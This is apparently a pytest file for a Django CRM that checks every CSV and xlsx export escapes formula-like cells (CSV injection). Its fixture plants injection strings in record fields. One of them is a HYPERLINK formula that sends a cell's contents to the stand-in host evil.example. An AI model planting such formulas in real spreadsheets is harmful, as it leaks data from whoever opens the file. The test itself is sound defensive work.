"""Every file the project writes (exports, the dashboard's tables, the worksheet comparison,
rejected import rows) escapes every cell that a spreadsheet would run as a formula, through the
one rule of `accounts.exports` — headers, values, and messages built from a file's headers.

Hostile text is planted in everything a download shows (account and contact fields, order
lines, territory and user names, an import file's headers and cells); each download is parsed
and no cell may start with = + - @, a tab or a carriage return unescaped (numbers aside)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.exports import FORMULA_STARTS
from accounts.models import Account, Order
from crm.models import User
from tests.dashboard.conftest import (  # noqa: F401 - fixtures
    PERIOD_PARAMS,
    _fresh_cache,
    book,
    scored,
)
from tests.factories import ContactFactory, TerritoryFactory
from tests.imports.conftest import run_import, write_csv

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
LEAK = '=HYPERLINK("http://evil.example/?leak="&C2,"x")'


@pytest.fixture
def hostile(scored, settings, tmp_path):  # noqa: F811 - the fixture imported above
    """The dashboard's book with formula-like text in every field a download shows, and an
    import batch with rejected rows whose header and cells are formulas."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    territory = TerritoryFactory(name="+Territory", code="@T")
    for i, account in enumerate(Account.objects.order_by("pk")):
        account.name = f"=EVIL{i}()"
        account.notes, account.phone, account.industry = "@SUM(A1)", "+86 1", "-2+3"
        account.address, account.external_code = "\t=cmd", f"\r=code{i}"
        account.territory = territory
        account.save()
        ContactFactory(
            account=account, name=f"=contact{i}", title="+t", phone="-1", chat_handle="@wx"
        )
        Order.objects.filter(account=account).update(invoice_number="=1+1", product="@p")
    User.objects.filter(pk=scored.r1.pk).update(username="@dash-r1", first_name="=First")
    path = write_csv(
        tmp_path / "hostile.csv",
        [[LEAK, "@email", "-notes"], ["", "x@example.com", "=1+2"], ["甲公司", "", "+3"]],
    )
    batch = run_import(
        path,
        actor=scored.admin,
        mapping=["name", "contact_email", "notes"],
        on_error="skip_bad_rows",
    )
    assert batch.row_errors.exists()
    scored.batch = batch
    return scored


def _compare_url(b):
    ids = ",".join(str(a.pk) for a in b.accounts.values())
    return f"{reverse('prospects:compare')}?accounts={ids}&format=csv"


DOWNLOADS = {
    **{
        f"{entity}.{ext}": (lambda b, e=entity, x=ext: reverse("accounts:export", args=[e, x]))
        for entity in ("accounts", "contacts", "orders")
        for ext in ("csv", "xlsx")
    },
    **{
        f"api-{entity}.{ext}": (lambda b, e=entity, x=ext: f"/api/v1/exports/{e}.{x}")
        for entity in ("accounts", "contacts", "orders")
        for ext in ("csv", "xlsx")
    },
    "dashboard.csv": lambda b: reverse("dashboard_csv") + "?" + _query(PERIOD_PARAMS),
    "dashboard.xlsx": lambda b: reverse("dashboard_xlsx") + "?" + _query(PERIOD_PARAMS),
    "worksheet-compare.csv": _compare_url,
    "rejected-rows.csv": lambda b: reverse("imports:rejected", args=[b.batch.pk]),
    "api-rejected-rows.csv": lambda b: f"/api/v1/imports/{b.batch.pk}/rejected/",
}


def _query(params: dict) -> str:
    return "&".join(f"{k}={v}" for k, v in params.items())


def _cells(response) -> list[tuple[str, bool]]:
    """(text, escaped) of every text cell of a CSV or xlsx download."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body.startswith(b"PK"):
        out = []
        for sheet in load_workbook(io.BytesIO(body)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        out.append((cell.value, bool(cell.quotePrefix)))
        return out
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    return [
        (cell[1:], True) if cell.startswith("'") else (cell, False) for row in rows for cell in row
    ]


@pytest.mark.parametrize("name", DOWNLOADS)
def test_every_download_escapes_every_formula_like_cell(client, hostile, name):
    client.force_login(hostile.admin)
    response = client.get(DOWNLOADS[name](hostile))
    assert response.status_code == 200, response.content[:500]
    cells = _cells(response)
    live = [
        text
        for text, escaped in cells
        if text.startswith(FORMULA_STARTS) and not escaped and not NUMBER.fullmatch(text)
    ]
    assert live == []
    # The hostile text did reach the file (escaped), so the check above is not vacuous.
    assert any(escaped and text.startswith(FORMULA_STARTS) for text, escaped in cells)


def test_the_rejected_rows_escape_the_errors_built_from_a_hostile_header(client, hostile):
    client.force_login(hostile.admin)
    response = client.get(DOWNLOADS["rejected-rows.csv"](hostile))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body))) == [
        ["Row", "Errors", "Warnings", "'" + LEAK, "'@email", "'-notes"],
        ["2", f"'{LEAK}: This value is required.", "", "", "x@example.com", "'=1+2"],
    ]


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|openpyxl")


def test_only_the_exports_module_writes_csv_or_xlsx():
    """Every download goes through accounts.exports (csv_stream, xlsx_file), whose every cell
    passes the one formula rule: no other module of the project builds a CSV or xlsx writer."""
    writers = sorted(
        str(path.relative_to(ROOT))
        for path in ROOT.glob("*/**/*.py")
        if path.parts[len(ROOT.parts)] not in {".venv", "tests", "bench", "node_modules"}
        and WRITERS.search(path.read_text(encoding="utf-8"))
    )
    assert writers == ["accounts/exports.py"]
